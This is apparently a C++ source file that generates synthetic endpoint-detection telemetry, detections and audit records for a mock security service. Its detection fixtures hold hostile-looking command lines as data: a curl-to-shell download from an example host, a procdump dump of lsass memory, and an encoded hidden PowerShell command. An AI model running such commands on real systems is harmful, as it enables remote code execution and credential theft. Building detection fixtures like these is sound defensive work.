// SPDX-License-Identifier: GPL-3.0-or-later
#include "TelemetryGenerator.h"

#include <nlohmann/json.hpp>

#include <algorithm>
#include <array>

#include "AccountDirectory.h"
#include "HostPrograms.h"
#include "PlatformCodes.h"
#include "Rng.h"
#include "UtcTime.h"

namespace {

using Json = nlohmann::ordered_json;

constexpr std::size_t kEventPoolSize = 1024;
constexpr std::size_t kDetectPoolSize = 256;
constexpr std::size_t kSmallPoolSize = 128;
constexpr std::size_t kSensorSample = 64;
constexpr std::size_t kCacheLimit = 64;

std::string timeMarker(std::int32_t deltaMs)
{
    return "@@T" + std::to_string(deltaMs) + "@@";
}

std::uint64_t fnv(const std::string& text)
{
    std::uint64_t hash = 0xcbf29ce484222325ULL;
    for (const char c : text) {
        hash = (hash ^ static_cast<unsigned char>(c)) * 0x100000001b3ULL;
    }
    return hash;
}

// The same file always has the same hash.
std::string hashOf(const std::string& path)
{
    Rng rng(fnv(path));
    return rng.hex(64);
}

std::string documentationIp(const std::string& name)
{
    const std::uint64_t hash = fnv(name);
    return std::string(hash % 2 == 0 ? "198.51.100." : "203.0.113.")
           + std::to_string(1 + (hash >> 8U) % 254);
}

// An atom whose last 8 hex digits are the pass over the pool: a process and its children keep
// pointing at each other, and no atom repeats between passes.
std::string atom(Rng& rng)
{
    return rng.hex(24) + "@@C@@";
}

std::string idWithSequence(Rng& rng)
{
    const std::string uuid = rng.uuid4();
    return uuid.substr(0, 24) + "@@Q@@";
}

std::string nameOf(const std::string& path)
{
    const std::size_t slash = path.find_last_of("\\/");
    return slash == std::string::npos ? path : path.substr(slash + 1);
}

std::string replaceUser(std::string text, const std::string& user)
{
    const std::string placeholder = "<u>";
    for (std::size_t at = text.find(placeholder); at != std::string::npos;
         at = text.find(placeholder, at + user.size())) {
        text.replace(at, placeholder.size(), user);
    }
    return text;
}

enum class Os
{
    Windows,
    Linux,
    MacOs,
    Chrome,
    None,
};

Os osOf(std::uint32_t plat)
{
    switch (plat) {
    case PlatformCodes::Windows:
        return Os::Windows;
    case PlatformCodes::Linux:
        return Os::Linux;
    case PlatformCodes::MacOs:
        return Os::MacOs;
    case PlatformCodes::ChromeOs:
        return Os::Chrome;
    default:
        return Os::None;
    }
}

const std::array<const char*, 4> kWindowsModules = {
        "C:\\Windows\\System32\\ntdll.dll", "C:\\Windows\\System32\\KERNEL32.DLL",
        "C:\\Windows\\System32\\ws2_32.dll", "C:\\Windows\\System32\\crypt32.dll"};
const std::array<const char*, 3> kLinuxModules = {"/lib/x86_64-linux-gnu/libc.so.6",
                                                  "/lib/x86_64-linux-gnu/libssl.so.3",
                                                  "/lib/x86_64-linux-gnu/libpthread.so.0"};
const std::array<const char*, 2> kMacModules = {
        "/usr/lib/libSystem.B.dylib",
        "/System/Library/Frameworks/Security.framework/Versions/A/Security"};
const std::array<const char*, 8> kUsers = {"jdoe",  "asmith", "mgarcia",       "lchen",
                                           "kwong", "rpatel", "m\xC3\xBCller", "ymori"};

struct Root
{
    std::string path;
    std::string commandLine;
    std::string user;
    std::string atom;
    int pid = 0;
};

// Builds the records of one sensor.
class SensorScript
{
public:
    SensorScript(const std::string& oid, const Sensor& sensor, std::vector<std::string> tags,
                 Rng& rng)
        : m_oid(oid)
        , m_sensor(sensor)
        , m_tags(std::move(tags))
        , m_os(osOf(sensor.plat))
        , m_rng(rng)
        , m_user(kUsers[rng.below(kUsers.size())])
    {}

    Os os() const { return m_os; }

    Json routing(const std::string& eventType, const std::string& thisAtom,
                 const std::string& parentAtom, std::int32_t deltaMs)
    {
        Json routing = {{"oid", m_oid},
                        {"iid", m_sensor.iid},
                        {"sid", m_sensor.sid},
                        {"did", m_sensor.did},
                        {"plat", m_sensor.plat},
                        {"arch", m_sensor.arch},
                        {"hostname", m_sensor.hostname},
                        {"int_ip", m_sensor.intIp},
                        {"ext_ip", m_sensor.extIp},
                        {"moduleid", 2},
                        {"event_type", eventType},
                        {"event_time", timeMarker(deltaMs)},
                        {"event_id", idWithSequence(m_rng)},
                        {"this", thisAtom}};
        if (!parentAtom.empty()) {
            routing["parent"] = parentAtom;
        }
        routing["tags"] = m_tags;
        return routing;
    }

    // One record: {"routing": ..., "event": ...}.
    Json record(const std::string& eventType, const std::string& parentAtom, Json event,
                std::int32_t deltaMs = 0)
    {
        return {{"routing", routing(eventType, atom(m_rng), parentAtom, deltaMs)},
                {"event", std::move(event)}};
    }

    std::string userName(bool system) const
    {
        switch (m_os) {
        case Os::Windows:
            return system ? std::string("NT AUTHORITY\\SYSTEM") : "EXAMPLE\\" + m_user;
        case Os::Linux:
            return system ? std::string("root") : m_user;
        default:
            return system ? std::string("root") : m_user;
        }
    }

    Root makeRoot(bool first)
    {
        Root root;
        root.atom = atom(m_rng);
        root.pid = static_cast<int>(m_os == Os::Windows ? 400 + m_rng.below(4000)
                                                        : 1 + m_rng.below(2000));
        switch (m_os) {
        case Os::Windows:
            root.path = first ? "C:\\Windows\\System32\\services.exe" : "C:\\Windows\\explorer.exe";
            root.commandLine =
                    first ? "C:\\Windows\\system32\\services.exe" : "C:\\Windows\\Explorer.EXE";
            root.user = userName(first);
            break;
        case Os::Linux:
            root.path = first ? "/usr/lib/systemd/systemd" : "/usr/sbin/sshd";
            root.commandLine = first ? "/sbin/init splash" : "sshd: " + m_user + " [priv]";
            root.user = "root";
            break;
        default:
            root.path = first ? "/sbin/launchd"
                              : "/System/Library/CoreServices/Finder.app/"
                                "Contents/MacOS/Finder";
            root.commandLine = root.path;
            root.user = userName(first);
            break;
        }
        return root;
    }

    Json processFields(const std::string& path, const std::string& commandLine,
                       const std::string& user, int pid, int parentPid, std::int32_t deltaMs)
    {
        Json event = {{"PROCESS_ID", pid},
                      {"PARENT_PROCESS_ID", parentPid},
                      {"FILE_PATH", path},
                      {"COMMAND_LINE", commandLine},
                      {"USER_NAME", user},
                      {"THREADS", 1 + m_rng.below(60)},
                      {"MEMORY_USAGE", (1 + m_rng.below(400)) * 1048576},
                      {"BASE_ADDRESS", 140690000000000ULL + m_rng.below(10000000) * 4096},
                      {"TIMESTAMP", timeMarker(deltaMs)}};
        event["HASH"] = hashOf(path);
        if (m_os != Os::Linux) {
            event["FILE_IS_SIGNED"] = path.find("Temp") == std::string::npos ? 1 : 0;
        }
        return event;
    }

    void existing(const Root& root, std::vector<Json>& out)
    {
        Json event = processFields(root.path, root.commandLine, root.user, root.pid,
                                   m_os == Os::Windows ? 4 : 1, -86400000);
        out.push_back({{"routing", routing("EXISTING_PROCESS", root.atom,
                                           std::string(m_rng.hex(24) + "@@C@@"), 0)},
                       {"event", std::move(event)}});
    }

    // A process started under `root`, with what it typically does.
    void activity(const Root& root, const Program& program, std::vector<Json>& out)
    {
        const std::string path = replaceUser(program.path, m_user);
        const std::string commandLine = replaceUser(program.commandLine, m_user);
        const std::string user = userName(program.system);
        const std::string processAtom = atom(m_rng);
        const int pid = static_cast<int>(1000 + m_rng.below(60000));

        Json started = processFields(path, commandLine, user, pid, root.pid, -1);
        started["PARENT"] = processFields(root.path, root.commandLine, root.user, root.pid,
                                          m_os == Os::Windows ? 4 : 1, -3600000);
        started["PARENT"].erase("HASH");
        started["PARENT"].erase("FILE_IS_SIGNED");
        out.push_back({{"routing", routing("NEW_PROCESS", processAtom, root.atom, 0)},
                       {"event", started}});

        if (m_os != Os::Linux && m_rng.chance(0.6)) {
            const bool signedFile = path.find("Temp") == std::string::npos;
            Json signature = {{"FILE_PATH", path},
                              {"FILE_IS_SIGNED", signedFile ? 1 : 0},
                              {"CERT_ISSUER", signedFile ? "C=US, O=Example Code Signing CA" : ""},
                              {"CERT_SUBJECT", signedFile ? "C=US, O=Example Software Inc." : ""},
                              {"CERT_CHAIN_STATUS", signedFile ? 0 : 124}};
            out.push_back(record("CODE_IDENTITY", processAtom,
                                 {{"FILE_PATH", path},
                                  {"HASH", hashOf(path)},
                                  {"MEMORY_SIZE", (1 + m_rng.below(200)) * 65536},
                                  {"TIMESTAMP", timeMarker(-1)},
                                  {"FILE_IS_SIGNED", signedFile ? 1 : 0},
                                  {"SIGNATURE", signature}}));
        }
        const std::size_t modules = 1 + m_rng.below(2);
        for (std::size_t i = 0; i < modules; ++i) {
            std::string module;
            if (m_os == Os::Windows) {
                module = kWindowsModules[m_rng.below(kWindowsModules.size())];
            } else if (m_os == Os::Linux) {
                module = kLinuxModules[m_rng.below(kLinuxModules.size())];
            } else {
                module = kMacModules[m_rng.below(kMacModules.size())];
            }
            out.push_back(
                    record("MODULE_LOAD", processAtom,
                           {{"PROCESS_ID", pid},
                            {"FILE_PATH", module},
                            {"MODULE_NAME", nameOf(module)},
                            {"MEMORY_SIZE", (1 + m_rng.below(64)) * 65536},
                            {"BASE_ADDRESS", 140710000000000ULL + m_rng.below(1000000) * 4096},
                            {"TIMESTAMP", timeMarker(-1)}}));
        }
        if (program.domain[0] != '\0') {
            network(processAtom, pid, path, commandLine, user, program.domain, program.port, out);
        }
        if (program.file[0] != '\0') {
            const std::string file = replaceUser(program.file, m_user);
            const std::uint64_t roll = m_rng.below(3);
            const char* type = roll == 0 ? "FILE_CREATE" : roll == 1 ? "FILE_MODIFIED" : "";
            if (type[0] != '\0') {
                out.push_back(record(type, processAtom,
                                     {{"FILE_PATH", file}, {"TIMESTAMP", timeMarker(-1)}}));
            } else {
                out.push_back(record("FILE_CREATE", processAtom,
                                     {{"FILE_PATH", file}, {"TIMESTAMP", timeMarker(-2)}}));
                out.push_back(record("FILE_DELETE", processAtom,
                                     {{"FILE_PATH", file}, {"TIMESTAMP", timeMarker(-1)}}));
            }
        }
        if (program.registryKey[0] != '\0') {
            if (m_rng.chance(0.3)) {
                out.push_back(record("REGISTRY_CREATE", processAtom,
                                     {{"PROCESS_ID", pid}, {"REGISTRY_KEY", program.registryKey}}));
            }
            out.push_back(record("REGISTRY_WRITE", processAtom,
                                 {{"PROCESS_ID", pid},
                                  {"REGISTRY_KEY", program.registryKey},
                                  {"REGISTRY_VALUE", m_rng.hex(2 * (4 + m_rng.below(28)))},
                                  {"SIZE", 4 + m_rng.below(28)},
                                  {"TYPE", m_rng.chance(0.5) ? 1 : 4}}));
        }
        if (m_rng.chance(0.15)) {
            out.push_back(record("USER_OBSERVED", processAtom,
                                 {{"USER_NAME", user}, {"TIMESTAMP", timeMarker(-1)}}));
        }
        if (m_rng.chance(0.6)) {
            out.push_back(record("TERMINATE_PROCESS", processAtom,
                                 {{"PROCESS_ID", pid},
                                  {"PARENT_PROCESS_ID", root.pid},
                                  {"TIMESTAMP", timeMarker(-1)}}));
        }
    }

    void network(const std::string& processAtom, int pid, const std::string& path,
                 const std::string& commandLine, const std::string& user, const std::string& domain,
                 int port, std::vector<Json>& out)
    {
        const std::string address = documentationIp(domain);
        out.push_back(record("DNS_REQUEST", processAtom,
                             {{"DOMAIN_NAME", domain},
                              {"IP_ADDRESS", address},
                              {"DNS_TYPE", 1},
                              {"DNS_FLAGS", 0},
                              {"MESSAGE_ID", m_rng.below(65536)},
                              {"CNAME", ""},
                              {"PROCESS_ID", pid},
                              {"TIMESTAMP", timeMarker(-1)}}));
        const std::string source =
                m_sensor.intIp.empty() ? std::string("10.0.0.2") : m_sensor.intIp;
        const int sourcePort = static_cast<int>(49152 + m_rng.below(16000));
        out.push_back(record("NEW_TCP4_CONNECTION", processAtom,
                             {{"PROCESS_ID", pid},
                              {"STATE", 5},
                              {"TIMESTAMP", timeMarker(-1)},
                              {"SOURCE", {{"IP_ADDRESS", source}, {"PORT", sourcePort}}},
                              {"DESTINATION", {{"IP_ADDRESS", address}, {"PORT", port}}}}));
        if (m_rng.chance(0.3)) {
            Json activity = Json::array();
            for (int i = 0; i < 2; ++i) {
                activity.push_back({{"SOURCE", {{"IP_ADDRESS", source}, {"PORT", sourcePort + i}}},
                                    {"DESTINATION", {{"IP_ADDRESS", address}, {"PORT", port}}},
                                    {"IS_OUTGOING", 1},
                                    {"PROTOCOL", "tcp4"},
                                    {"TIMESTAMP", timeMarker(-2 + i)}});
            }
            out.push_back(record("NETWORK_CONNECTIONS", processAtom,
                                 {{"PROCESS_ID", pid},
                                  {"FILE_PATH", path},
                                  {"COMMAND_LINE", commandLine},
                                  {"USER_NAME", user},
                                  {"HASH", hashOf(path)},
                                  {"NETWORK_ACTIVITY", activity}}));
        }
        if (m_rng.chance(0.4)) {
            out.push_back(record("TERMINATE_TCP4_CONNECTION", processAtom,
                                 {{"PROCESS_ID", pid},
                                  {"TIMESTAMP", timeMarker(0)},
                                  {"SOURCE", {{"IP_ADDRESS", source}, {"PORT", sourcePort}}},
                                  {"DESTINATION", {{"IP_ADDRESS", address}, {"PORT", port}}}}));
        }
    }

    // Chrome OS sensors only report DNS and connections.
    void browsing(std::vector<Json>& out)
    {
        static const std::array<const char*, 4> domains = {"classroom.example.edu",
                                                           "docs.example.com", "video.example.net",
                                                           "\xE4\xBE\x8B\xE3\x81\x88.example.jp"};
        network(atom(m_rng), 0, "", "", "", domains[m_rng.below(domains.size())], 443, out);
    }

    // Appends about `count` records of this sensor.
    void telemetry(std::size_t count, std::vector<Json>& out)
    {
        const std::size_t start = out.size();
        if (m_os == Os::Chrome) {
            while (out.size() - start < count) {
                browsing(out);
            }
            return;
        }
        const Root system = makeRoot(true);
        const Root session = makeRoot(false);
        existing(system, out);
        existing(session, out);
        while (out.size() - start < count) {
            const bool underSystem = m_rng.chance(0.3);
            const Root& parent = underSystem ? system : session;
            switch (m_os) {
            case Os::Windows:
                activity(parent, kWindowsPrograms[m_rng.below(kWindowsPrograms.size())], out);
                break;
            case Os::Linux:
                activity(parent, kLinuxPrograms[m_rng.below(kLinuxPrograms.size())], out);
                break;
            default:
                activity(parent, kMacPrograms[m_rng.below(kMacPrograms.size())], out);
                break;
            }
        }
    }

    const std::string& user() const { return m_user; }
    const Sensor& sensor() const { return m_sensor; }

private:
    const std::string& m_oid;
    const Sensor& m_sensor;
    std::vector<std::string> m_tags;
    Os m_os;
    Rng& m_rng;
    std::string m_user;
};

struct Rule
{
    const char* cat;
    const char* sourceRule;
    Os os;        // Os::None: any platform
    int priority; // < 0: none
    std::vector<const char*> ruleTags;
    const char* level;
    const char* description;
    bool managed;
};

const std::vector<Rule>& rules()
{
    static const std::vector<Rule> list = {
            {"suspicious-whoami",
             "whoami-exec",
             Os::Windows,
             3,
             {"discovery", "t1033"},
             "medium",
             "whoami executed from a command shell",
             false},
            {"powershell-encoded-command",
             "ps-encoded",
             Os::Windows,
             7,
             {"execution", "t1059.001"},
             "high",
             "PowerShell started with an encoded command",
             false},
            {"lsass-memory-dump",
             "lsass-dump",
             Os::Windows,
             9,
             {"credential-access", "t1003.001"},
             "critical",
             "a process dumped the memory of lsass.exe",
             false},
            {"new-service-installed",
             "service-install",
             Os::Windows,
             4,
             {"persistence", "t1543.003"},
             "medium",
             "a service was registered",
             false},
            {"feed_malwaredomains", "malwaredomains", Os::None, -1, {}, "", "", true},
            {"curl-pipe-shell",
             "curl-sh",
             Os::Linux,
             6,
             {"execution", "t1059.004"},
             "high",
             "a downloaded script was piped into a shell",
             false},
            {"macos-launchagent-persistence",
             "launchagent-write",
             Os::MacOs,
             5,
             {"persistence", "t1543.001"},
             "medium",
             "a LaunchAgent was created",
             false},
    };
    return list;
}

Json detection(SensorScript& script, const Rule& rule, Rng& rng)
{
    const std::string user = script.user();
    const std::string parentAtom = atom(rng);
    Json record;
    const std::string cat = rule.cat;
    if (cat == "suspicious-whoami") {
        record = script.record("NEW_PROCESS", parentAtom,
                               script.processFields("C:\\Windows\\System32\\whoami.exe",
                                                    "whoami /all", "EXAMPLE\\" + user,
                                                    static_cast<int>(2000 + rng.below(9000)), 4812,
                                                    -1),
                               -40);
    } else if (cat == "powershell-encoded-command") {
        record = script.record(
                "NEW_PROCESS", parentAtom,
                script.processFields("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell."
                                     "exe",
                                     "powershell.exe -NoP -W Hidden -enc "
                                     "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
                                     "EXAMPLE\\" + user, static_cast<int>(2000 + rng.below(9000)),
                                     3120, -1),
                -40);
    } else if (cat == "lsass-memory-dump") {
        record = script.record("NEW_PROCESS", parentAtom,
                               script.processFields("C:\\Users\\Public\\procdump64.exe",
                                                    "procdump64.exe -accepteula -ma lsass.exe "
                                                    "C:\\Users\\Public\\l.dmp",
                                                    "EXAMPLE\\" + user,
                                                    static_cast<int>(2000 + rng.below(9000)), 5520,
                                                    -1),
                               -40);
    } else if (cat == "new-service-installed") {
        record = script.record(
                "REGISTRY_WRITE", parentAtom,
                {{"PROCESS_ID", 700 + rng.below(200)},
                 {"REGISTRY_KEY", "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\"
                                  "\xC3\x9C"
                                  "pdateSvc\\ImagePath"},
                 {"REGISTRY_VALUE", rng.hex(48)},
                 {"SIZE", 24},
                 {"TYPE", 2}},
                -40);
    } else if (cat == "feed_malwaredomains") {
        record = script.record("DNS_REQUEST", parentAtom,
                               {{"DOMAIN_NAME", "cdn.updates-example.net"},
                                {"IP_ADDRESS", documentationIp("cdn.updates-example.net")},
                                {"DNS_TYPE", 1},
                                {"DNS_FLAGS", 0},
                                {"MESSAGE_ID", rng.below(65536)},
                                {"CNAME", ""},
                                {"PROCESS_ID", 1000 + rng.below(60000)},
                                {"TIMESTAMP", timeMarker(-41)}},
                               -40);
    } else if (cat == "curl-pipe-shell") {
        record = script.record("NEW_PROCESS", parentAtom,
                               script.processFields("/bin/sh",
                                                    "/bin/sh -c curl -s "
                                                    "https://updates.example.net/x.sh | sh",
                                                    user, static_cast<int>(1000 + rng.below(30000)),
                                                    1311, -1),
                               -40);
    } else {
        record = script.record("FILE_CREATE", parentAtom,
                               {{"FILE_PATH", "/Users/" + user
                                                      + "/Library/LaunchAgents/"
                                                        "com.example.updater.plist"},
                                {"TIMESTAMP", timeMarker(-41)}},
                               -40);
    }
    Json detect = {{"cat", rule.cat},
                   {"source", rule.managed ? "dr-managed" : "dr-general"},
                   {"namespace", rule.managed ? "managed" : "general"},
                   {"author", rule.managed ? "" : "analyst@example.com"},
                   {"detect_id", idWithSequence(rng)},
                   {"link", ""},
                   {"ts", timeMarker(0)},
                   {"routing", record["routing"]},
                   {"detect", record}};
    Json metadata = Json::object();
    if (rule.level[0] != '\0') {
        metadata["level"] = rule.level;
        metadata["description"] = rule.description;
    }
    detect["detect_mtd"] = metadata;
    if (rule.priority >= 0) {
        detect["priority"] = rule.priority;
    }
    detect["source_rule"] = rule.sourceRule;
    if (!rule.ruleTags.empty()) {
        detect["rule_tags"] = rule.ruleTags;
    }
    if (cat == "feed_malwaredomains") {
        detect["detect_data"] = {{"domain", "cdn.updates-example.net"}};
    }
    detect["gen_time"] = timeMarker(0);
    return detect;
}

Json auditEntry(const std::string& oid, const Sensor* sensor, Rng& rng)
{
    Json entry = {{"oid", oid}, {"ts", "@@D@@"}, {"time", timeMarker(0)}};
    if (sensor != nullptr) {
        switch (rng.below(4)) {
        case 0:
            entry["etype"] = "send_task";
            entry["msg"] = "task sent to sensor";
            entry["origin"] = "";
            entry["ident"] = "api-key:demo-full-access";
            entry["entity"] = {{"sid", sensor->sid}};
            entry["mtd"] = {{"task", "os_version"},
                            {"investigation_id", "lcdesk-" + rng.hex(8) + "/" + rng.uuid4()}};
            break;
        case 1:
            entry["etype"] = "tag_added";
            entry["msg"] = "tag added to sensor";
            entry["origin"] = "";
            entry["ident"] = "analyst@example.com";
            entry["entity"] = {{"sid", sensor->sid}};
            entry["mtd"] = {{"tag", "investigating"}, {"ttl", 86400}};
            break;
        case 2:
            entry["etype"] = "isolate_network";
            entry["msg"] = "network isolation requested";
            entry["origin"] = "";
            entry["ident"] = "analyst@example.com";
            entry["entity"] = {{"sid", sensor->sid}};
            entry["mtd"] = Json::object();
            break;
        default:
            entry["etype"] = "sensor_seen";
            entry["msg"] = "sensor " + sensor->hostname + " reconnected";
            entry["origin"] = "sensor";
            entry["ident"] = "system";
            entry["entity"] = {{"sid", sensor->sid}, {"hostname", sensor->hostname}};
            entry["mtd"] = Json::object();
            break;
        }
        return entry;
    }
    switch (rng.below(4)) {
    case 0:
        entry["etype"] = "hive_set";
        entry["msg"] = "record set in hive dr-general";
        entry["origin"] = "";
        entry["ident"] = "analyst@example.com";
        entry["entity"] = {{"hive", "dr-general"}, {"name", "whoami-exec"}};
        entry["mtd"] = {{"action", "set"}};
        break;
    case 1:
        entry["etype"] = "user_login";
        entry["msg"] = "user logged in";
        entry["origin"] = "web";
        entry["ident"] = "analyst@example.com";
        entry["entity"] = Json::object();
        entry["mtd"] = {{"ip", "203.0.113.7"}};
        break;
    case 2:
        entry["etype"] = "api_key_create";
        entry["msg"] = "api key created";
        entry["origin"] = "";
        entry["ident"] = "owner@example.com";
        entry["entity"] = {{"key_name", "siem-export"}};
        entry["mtd"] = {{"perms", "output.list,insight.evt.get"}};
        break;
    default:
        entry["etype"] = "output_set";
        entry["msg"] = "output set";
        entry["origin"] = "";
        entry["ident"] = "analyst@example.com";
        entry["entity"] = {{"name", "siem-syslog"}, {"module", "syslog"}};
        entry["mtd"] = {{"for", "event"}};
        break;
    }
    return entry;
}

Json deploymentEvent(const std::string& oid, const Sensor& sensor, Rng& rng)
{
    static const std::array<const char*, 5> types = {"enrollment", "sensor_clone", "deleted_sensor",
                                                     "sensor_over_quota", "sensor_crash"};
    const std::string type = types[rng.below(types.size())];
    Json routing = {{"oid", oid},
                    {"iid", sensor.iid},
                    {"sid", sensor.sid},
                    {"plat", sensor.plat},
                    {"arch", sensor.arch},
                    {"event_type", type},
                    {"event_time", timeMarker(0)}};
    Json event;
    if (type == "enrollment") {
        event = {{"public_ip", sensor.extIp},
                 {"internal_ip", sensor.intIp},
                 {"host_name", sensor.hostname}};
    } else if (type == "sensor_clone") {
        routing["hostname"] = sensor.hostname;
        routing["int_ip"] = sensor.intIp;
        routing["ext_ip"] = sensor.extIp;
        event = {{"previous_hostname", sensor.hostname + "-old"},
                 {"new_hostname", sensor.hostname}};
    } else if (type == "deleted_sensor") {
        event = {{"denied_for", 3600}};
    } else if (type == "sensor_over_quota") {
        routing["hostname"] = sensor.hostname;
        event = Json::object();
    } else {
        routing["hostname"] = sensor.hostname;
        event = {{"crash_context",
                  {{"module", "hbs"},
                   {"version", "4.33.0"},
                   {"exception", "access violation"},
                   {"address", "0x00007ff6" + rng.hex(8)}}}};
    }
    return {{"routing", routing}, {"event", event}};
}

Json billingRecord(const std::string& oid, Rng& rng)
{
    static const std::array<const char*, 4> categories = {"sensor_usage", "events_ingested",
                                                          "outputs_bytes", "artifacts_bytes"};
    static const std::array<const char*, 4> keys = {"windows", "linux", "siem-syslog", "macos"};
    const std::size_t which = rng.below(categories.size());
    return {{"record",
             {{"cat", categories[which]},
              {"k", keys[rng.below(keys.size())]},
              {"oid", oid},
              {"record_id", idWithSequence(rng)},
              {"ts", timeMarker(0)},
              {"v", which == 0 ? rng.below(500) : rng.below(50000000)}}}};
}

void addAll(RecordPool& pool, const std::vector<Json>& records)
{
    for (const Json& record : records) {
        pool.add(record.dump(-1, ' ', false, Json::error_handler_t::replace));
    }
}

// Records of several sensors, interleaved as they would arrive from a live fleet.
std::vector<Json> interleave(std::vector<std::vector<Json>> perSensor)
{
    std::vector<Json> merged;
    std::vector<std::size_t> next(perSensor.size(), 0);
    bool any = true;
    while (any) {
        any = false;
        for (std::size_t i = 0; i < perSensor.size(); ++i) {
            if (next[i] < perSensor[i].size()) {
                merged.push_back(std::move(perSensor[i][next[i]++]));
                any = true;
            }
        }
    }
    return merged;
}

} // namespace

TelemetryGenerator::TelemetryGenerator(std::uint64_t seed)
    : m_seed(seed)
{}

std::vector<std::string> TelemetryGenerator::liveTags(const Sensor& sensor, std::int64_t nowMs)
{
    std::vector<std::string> tags;
    for (const auto& [tag, entry] : sensor.tags) {
        if (entry.isLive(nowMs)) {
            tags.push_back(tag);
        }
    }
    return tags;
}

std::shared_ptr<const RecordPool> TelemetryGenerator::pool(const Organization& org,
                                                           const StreamFilter& filter)
{
    const std::uint64_t revision = org.fleet->revision();
    // Only what changes the records is part of the key: `cat` matters for detections only, and
    // for events an investigation filter matters only by being there.
    const std::string cat = filter.type == StreamType::Detect ? filter.cat : std::string();
    const bool investigation = filter.type == StreamType::Event && !filter.invId.empty();
    const std::string key = org.oid + '\n' + streamTypeName(filter.type) + '\n' + filter.sid + '\n'
                            + filter.tag + '\n' + cat + (investigation ? "\ni" : "\n");
    {
        std::lock_guard lock(m_mutex);
        const auto it = m_cache.find(key);
        if (it != m_cache.end() && it->second.revision == revision) {
            return it->second.pool;
        }
    }
    auto built = build(org, filter, revision);
    std::lock_guard lock(m_mutex);
    if (m_cache.size() >= kCacheLimit && m_cache.count(key) == 0) {
        m_cache.erase(m_cache.begin());
    }
    m_cache[key] = Entry{revision, built};
    return built;
}

std::shared_ptr<const RecordPool> TelemetryGenerator::build(const Organization& org,
                                                            const StreamFilter& filter,
                                                            std::uint64_t revision) const
{
    auto pool = std::make_shared<RecordPool>();
    // Generated telemetry never answers a task, so an investigation filter leaves nothing.
    if (filter.type == StreamType::Event && !filter.invId.empty()) {
        return pool;
    }
    const std::int64_t nowMs = UtcTime::nowMs();
    Rng rng(Rng::mix(Rng::mix(m_seed, revision),
                     std::hash<std::string>()(org.oid + filter.sid + filter.tag)));
    const bool onlineOnly = filter.type == StreamType::Event || filter.type == StreamType::Detect;
    const auto matches = [&filter, onlineOnly, nowMs](const Sensor& sensor) {
        // Runs for every sensor of the fleet under its lock: no copies here.
        return (!onlineOnly || sensor.online) && (filter.sid.empty() || sensor.sid == filter.sid)
               && (filter.tag.empty() || sensor.hasLiveTag(filter.tag, nowMs));
    };
    std::vector<Sensor> sensors = org.fleet->select(matches, kSensorSample);
    // Sensors with non-ASCII hostnames always take part: clients must show them right.
    const std::vector<Sensor> unusual = org.fleet->select(
            [&matches](const Sensor& sensor) {
                return matches(sensor)
                       && std::any_of(sensor.hostname.begin(), sensor.hostname.end(), [](char c) {
                              return static_cast<unsigned char>(c) >= 0x80U;
                          });
            },
            kSensorSample / 4);
    for (const Sensor& sensor : unusual) {
        const bool present =
                std::any_of(sensors.begin(), sensors.end(),
                            [&sensor](const Sensor& chosen) { return chosen.sid == sensor.sid; });
        if (!present) {
            sensors.push_back(sensor);
        }
    }
    const bool sensorFilter = !filter.sid.empty() || !filter.tag.empty();

    switch (filter.type) {
    case StreamType::Event: {
        std::vector<std::vector<Json>> perSensor;
        std::vector<const Sensor*> producing;
        for (const Sensor& sensor : sensors) {
            if (osOf(sensor.plat) != Os::None) {
                producing.push_back(&sensor);
            }
        }
        for (const Sensor* sensor : producing) {
            SensorScript script(org.oid, *sensor, liveTags(*sensor, nowMs), rng);
            perSensor.emplace_back();
            script.telemetry(std::max<std::size_t>(8, kEventPoolSize / producing.size()),
                             perSensor.back());
        }
        addAll(*pool, interleave(std::move(perSensor)));
        break;
    }
    case StreamType::Detect: {
        std::vector<Json> records;
        for (std::size_t round = 0; round < kDetectPoolSize && !sensors.empty(); ++round) {
            const Sensor& sensor = sensors[round % sensors.size()];
            const Os os = osOf(sensor.plat);
            std::vector<const Rule*> candidates;
            for (const Rule& rule : rules()) {
                if ((rule.os == os || (rule.os == Os::None && os != Os::None))
                    && (filter.cat.empty() || filter.cat == rule.cat)) {
                    candidates.push_back(&rule);
                }
            }
            if (candidates.empty()) {
                continue;
            }
            SensorScript script(org.oid, sensor, liveTags(sensor, nowMs), rng);
            records.push_back(detection(script, *candidates[rng.below(candidates.size())], rng));
        }
        addAll(*pool, records);
        break;
    }
    case StreamType::Audit: {
        std::vector<Json> records;
        for (std::size_t i = 0; i < kSmallPoolSize; ++i) {
            const bool aboutSensor = sensorFilter || rng.chance(0.5);
            if (aboutSensor && sensors.empty()) {
                break;
            }
            records.push_back(auditEntry(
                    org.oid, aboutSensor ? &sensors[rng.below(sensors.size())] : nullptr, rng));
        }
        addAll(*pool, records);
        break;
    }
    case StreamType::Deployment: {
        std::vector<Json> records;
        for (std::size_t i = 0; i < kSmallPoolSize && !sensors.empty(); ++i) {
            records.push_back(deploymentEvent(org.oid, sensors[rng.below(sensors.size())], rng));
        }
        addAll(*pool, records);
        break;
    }
    case StreamType::Billing: {
        std::vector<Json> records;
        for (std::size_t i = 0; i < kSmallPoolSize && !sensorFilter; ++i) {
            records.push_back(billingRecord(org.oid, rng));
        }
        addAll(*pool, records);
        break;
    }
    }
    return pool;
}
